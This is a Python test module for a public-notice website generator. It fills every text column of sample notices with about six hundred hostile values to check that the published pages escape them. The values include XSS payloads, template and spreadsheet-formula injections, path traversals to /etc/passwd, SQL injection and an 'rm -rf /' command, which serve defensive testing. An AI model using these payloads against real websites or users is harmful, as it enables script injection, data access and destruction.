"""Six hundred cells of somebody who wants a page to do something, and the sample office with them in every column.

What would run sets `window.__hit`; what would be fetched is on the host 127.0.0.2.
"""

import importlib
import json
from collections.abc import Sequence
from dataclasses import replace
from functools import cache
from itertools import cycle, product

from generator import publications
from generator.artifacts import Artifact
from generator.columns import Shown
from generator.edition import Edition
from generator.examination import examine
from generator.notices import Column, Entry, WebNotice
from generator.pipeline import showable_on
from generator.project import Project
from generator.rendering import Press, make_press
from tests.checks.sample_scope import TODAY
from tests.conftest import REPOSITORY

_RUN = "window.__hit=1"
_HOST = "http://127.0.0.2/x"

# What ends the place where a value may stand: text, an attribute, a cell, a comment, a script, a title.
_ENDS = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "`>",
    "</td></tr></table>",
    "</title>",
    "</script>",
    "</style>",
    "</textarea>",
    "-->",
    "]]>",
    '\\">',
)
_RUNS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT >",
    f"<script src={_HOST}.js></script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src={_HOST}.png>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f'<svg><animate onbegin="{_RUN}" attributeName=x dur=1s>',
    '<iframe srcdoc="<script>parent.__hit=1</script>"></iframe>',
    f"<iframe src={_HOST}></iframe>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<body onload={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f'<a href="javascript:{_RUN}">x</a>',
    f'<object data="javascript:{_RUN}"></object>',
    f"<embed src={_HOST}>",
    f'<form action="javascript:{_RUN}"><button>x</button></form>',
    f"<link rel=stylesheet href={_HOST}.css>",
    f"<style>@import url({_HOST}.css);</style>",
    f'<meta http-equiv=refresh content="0;url={_HOST}">',
    f"<base href={_HOST}>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>"></noscript>',
    f"<template><script>{_RUN}</script></template>",
    f'<math><mtext><table><mglyph><style><img src=x onerror="{_RUN}">',
    "<h1>x</h1>",
    "<plaintext>",
)
_EVENTS = ("onclick", "onmouseover", "onfocus", "onerror", "onload", "onanimationstart", "onpointerenter", "ontoggle")
_ATTRIBUTES = [f"{quote} {event}={quote}{_RUN}" for event, quote in product(_EVENTS, ("", '"', "'"))]
_ADDRESSES = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"javascript://%0a{_RUN}",
    f"&#106;avascript:{_RUN}",
    f"java&Tab;script:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD48L3NjcmlwdD4=",
    f"vbscript:{_RUN}",
    "file:///etc/passwd",
    "//127.0.0.2/x",
    _HOST,
    "../../etc/passwd",
    "..\\..\\windows",
    "C:\\Windows\\x",
    "tel:110",
    "mailto:x@example.com",
    "#content",
    "?x=1&copy=2&lt=3",
    "%3Cscript%3E",
    "%00",
)
_TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% include 'x' %}",
    "{# x #}",
    "{{ site }}",
    "{%",
    "}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[[${7*7}]]",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    "$x$",
    "%s %d %(x)s",
    "{0}{x}",
    "\\1\\g<0>",
)
_MARKDOWN = (
    "*张*三*",
    "**x**",
    "__x__",
    "`x`",
    "```x",
    "# x",
    "> x",
    "- x",
    "1. x",
    "| a | b |",
    "![x](x)",
    f"[x](javascript:{_RUN})",
    "[x]: x",
    "~~x~~",
    "---",
    "!!! note",
    "::: x",
    "<http://127.0.0.2/>",
    "\\*x",
    "[^1]",
    "{: onclick=x }",
    "++x++",
    "==x==",
    ":smile:",
)
_FORMULAS = (
    '=HYPERLINK("http://127.0.0.2/x")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "=cmd|'/C calc'!A0",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "=WEBSERVICE(A1)",
    "=IMPORTXML(A1)",
    "'=1",
    " =1",
    '"=1',
    "%=1",
    "=DDE(1)",
    "-2+3+cmd|' /C calc'!A0",
    "=\u202e1",
    "\u200b=1",
)
_BIDI = tuple(
    f"甲{chr(each)}乙" for each in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C)
) + ("\u202egnihsilbup\u202c", "\u2067שלום", "مرحبا")
_UNSEEN = tuple(
    f"甲{chr(each)}乙"
    for each in (
        0x200B,
        0x200C,
        0x200D,
        0x2060,
        0xFEFF,
        0xAD,
        0x180E,
        0x3164,
        0x2028,
        0x2029,
        0xA0,
        0x3000,
        0xE0041,
        0xFE0F,
        0x2800,
    )
)
_ENTITIES = (
    "&lt;b&gt;",
    "&#60;b&#62;",
    "&#x3c;script&#x3e;",
    "&amp;lt;",
    "&amp;amp;",
    "&nbsp",
    "&notit;",
    "&#0;",
    "&#xD800;",
    "&#x110000;",
    "&",
    "&&",
    "&;",
    "&quot;",
    "&apos;",
    "&NewLine;",
)
_SLOTS = (
    "<!--gongshi-slot-head-->",
    "<!--gongshi-slot-body-->",
    "<!--",
    "<!-->",
    "<!--->",
    "--!>",
    "<!doctype html>",
    "<![CDATA[x]]>",
    "<?xml version='1.0'?>",
    "<?php x ?>",
    "<%",
    "</",
    "<",
    "<3",
    "a<b>c",
    '"',
    "'",
    "`",
)
_OBJECTS = (
    '"}',
    '{"x":1}',
    '","x":"',
    "\\u003cscript\\u003e",
    "\\",
    "\\\\",
    '\\"',
    "\\n",
    "</script><script>",
    "<!--<script>",
    "*/",
    "/*",
    "//",
    "';x;'",
    "null",
    "NaN",
    "undefined",
    "__proto__",
    "constructor",
    "0x10",
    "1e309",
    "true",
)
_STYLES = (
    "expression(x)",
    f"url({_HOST})",
    "}body{display:none}",
    "position:fixed;inset:0",
    "\\65xpression(x)",
    "@import 'x'",
)
_LONG = ("a" * 1000, "长" * 500, "甲" + "\u0301" * 200, "𠮷" * 100, "W" * 300, "-" * 400, "\u1f9d1\u200d" * 50)
_OTHER = (
    "' OR 1=1 --",
    "; rm -rf /",
    "$(x)",
    "|x",
    'a,b"c',
    "a;b",
    "\ue000",
    "\ufffd",
    "\ufdd0",
    "\ufffe",
    "\uffff",
    "\U0001fffe",
    "🏳️‍🌈",
    "Ⅷ①㈱",
    "１２",
    "NULL",
    "None",
    "　",
)
# What no file can say in a cell of ours: control characters, and halves of characters.
_CONTROL = tuple(f"甲{chr(each)}乙" for each in (0, 1, 8, 9, 10, 11, 12, 13, 27, 0x7F, 0x85, 0x9B, 0xD800, 0xDFFF)) + (
    f"java\tscript:{_RUN}",
    f"<scr\0ipt>{_RUN}</script>",
)

VALUES = tuple(
    dict.fromkeys(
        [
            *(end + each for each, end in product(_RUNS, _ENDS)),
            *_ATTRIBUTES,
            *_ADDRESSES,
            *_TEMPLATES,
            *_MARKDOWN,
            *_FORMULAS,
            *_BIDI,
            *_UNSEEN,
            *_ENTITIES,
            *_SLOTS,
            *_OBJECTS,
            *_STYLES,
            *_LONG,
            *_OTHER,
            *_CONTROL,
        ]
    )
)

# As harmless, as many, and all different: what pages look like when nothing is wrong.
HARMLESS = tuple(f"文字a{number}" for number in range(len(VALUES)))

# Columns whose values are text on a page. All others are read as numbers, days or one of the words of their kind.
TEXTS = ("text", "list", "parts", "units", "staff", "village", "contact", "person_name")


@cache
def edition() -> Edition[WebNotice]:
    """What the sample office shows on the web."""
    examination = examine(Project(REPOSITORY), TODAY)
    assert examination.office
    showable = showable_on(examination.approved, examination.office, TODAY)
    return Edition("web", examination.office, examination.kinds, TODAY, showable.web, ())


@cache
def _press() -> Press:
    return make_press(Project(REPOSITORY))


def made(kind: str, values: Sequence[str]) -> dict[str, Artifact]:
    """What is published of one kind, by path, with `values` in each of its text columns, one an entry, past all checks."""
    notice = next(each for each in edition().notices if each.facts.kind == kind)
    if edition().kinds[kind].shape == "record":
        notices = tuple(_record(notice, number, value) for number, value in enumerate(values))
    else:
        notices = (_list(notice, values),)
    changed = replace(edition(), notices=notices)
    forms = [importlib.import_module(f"{publications.__name__}.{name}") for name in publications.names()]
    artifacts = [each for form in forms if hasattr(form, "web") for each in form.web(changed, _press())]
    return {each.path: each for each in artifacts if each.path.startswith("site/")}


def text_columns(kind: str) -> int:
    """How many columns of a kind show text on the web."""
    notice = next(each for each in edition().notices if each.facts.kind == kind)
    return sum(column.type in TEXTS for column in notice.columns)


def _list(notice: WebNotice, values: Sequence[str]) -> WebNotice:
    """The notice with an entry for each value; numbers and days are those of its own entries, over and over."""
    entries = [
        _entry(notice.columns, entry, value) for entry, value in zip(cycle(notice.entries), values, strict=False)
    ]
    return replace(notice, entries=tuple(entries))


def _record(notice: WebNotice, number: int, value: str) -> WebNotice:
    """The record as a notice of its own that is called by the value, too; in a place of its own, or each would link to all."""
    address, place = f"{notice.facts.kind}/h{number}", str(number)
    facts = replace(notice.facts, address=address, title=value, list_title=value, village_code=place)
    return replace(notice, facts=facts, entries=(_entry(notice.columns, notice.entries[0], value),))


def _entry(columns: Sequence[Column], entry: Entry, value: str) -> Entry:
    shown = [
        _shown(column, value) if column.type in TEXTS else was for column, was in zip(columns, entry.shown, strict=True)
    ]
    plain = [
        _plain(column, value) if column.type in TEXTS else was for column, was in zip(columns, entry.plain, strict=True)
    ]
    return Entry(tuple(shown), tuple(plain))


def _shown(column: Column, value: str) -> Shown:
    """As the types of column show text."""
    if column.type == "parts":
        return ((value,) * len(column.parts),)
    return (value,) if column.type == "list" else value


def _plain(column: Column, value: str) -> str:
    shown = _shown(column, value)
    return shown if isinstance(shown, str) else json.dumps(shown, ensure_ascii=False)
